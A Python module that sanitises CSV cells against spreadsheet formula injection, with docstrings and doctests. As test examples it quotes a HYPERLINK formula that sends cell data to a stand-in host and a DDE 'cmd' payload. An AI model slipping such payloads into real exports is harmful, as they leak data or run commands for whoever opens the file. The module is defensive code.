"""CSV cells a spreadsheet will not run: every CSV the product writes goes through here.

A spreadsheet opening a CSV reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some of them, a tab or a carriage return before one) as a formula: a member named
``=HYPERLINK("http://evil.example/?"&A1, "click")`` would otherwise run in the organiser's
spreadsheet (CSV injection, OWASP). :func:`safe_cell` puts a single quote before such a
text, so the cell shows the text as it was typed and runs nothing; numbers, and texts
that are plain numbers (``-1.5``, ``2/3``), are left as they are. :func:`writer` is a
``csv.writer`` whose rows go through :func:`safe_cell`.

The full-width forms of the four signs (U+FF1D, U+FF0B, U+FF0D, U+FF20), which some
spreadsheets take as formula signs too, are neutralised as well.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

__all__ = ["FORMULA_STARTS", "CellWriter", "safe_cell", "writer"]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
#: A plain number written as text (a sign is part of it, not a formula).
_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?(/\d+)?$")


def safe_cell(value: object) -> str:
    """``value`` as the text of a CSV cell that no spreadsheet runs as a formula.

    Examples
    --------
    >>> safe_cell('=HYPERLINK("http://evil.example","click")')
    '\\'=HYPERLINK("http://evil.example","click")'
    >>> [safe_cell(v) for v in ("@SUM(A1)", "+1+1", "\\t=1", "Ana", "")]
    ["'@SUM(A1)", "'+1+1", "'\\t=1", 'Ana', '']
    >>> [safe_cell(v) for v in (-1.5, "-1.5", "2/3", 0, None)]
    ['-1.5', '-1.5', '2/3', '0', '']
    >>> safe_cell("-1+cmd|' /C calc'!A0")
    "'-1+cmd|' /C calc'!A0"
    """
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    if text[:1] in FORMULA_STARTS and not _NUMBER.match(text):
        return "'" + text
    return text


class _Stream(Protocol):
    def write(self, text: str, /) -> Any: ...


class CellWriter:
    """A ``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, stream: _Stream, **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row of cells."""
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write every row."""
        for row in rows:
            self.writerow(row)


def writer(stream: _Stream, **fmtparams: Any) -> CellWriter:
    """A CSV writer over ``stream`` (as ``csv.writer``) that neutralises formula cells.

    Examples
    --------
    >>> import io
    >>> buf = io.StringIO()
    >>> w = writer(buf, lineterminator="\\n")
    >>> w.writerow(["name", "score"])
    >>> w.writerows([["=1+1", -0.5], ["Ana", 2]])
    >>> print(buf.getvalue(), end="")
    name,score
    '=1+1,-0.5
    Ana,2
    """
    return CellWriter(stream, **fmtparams)
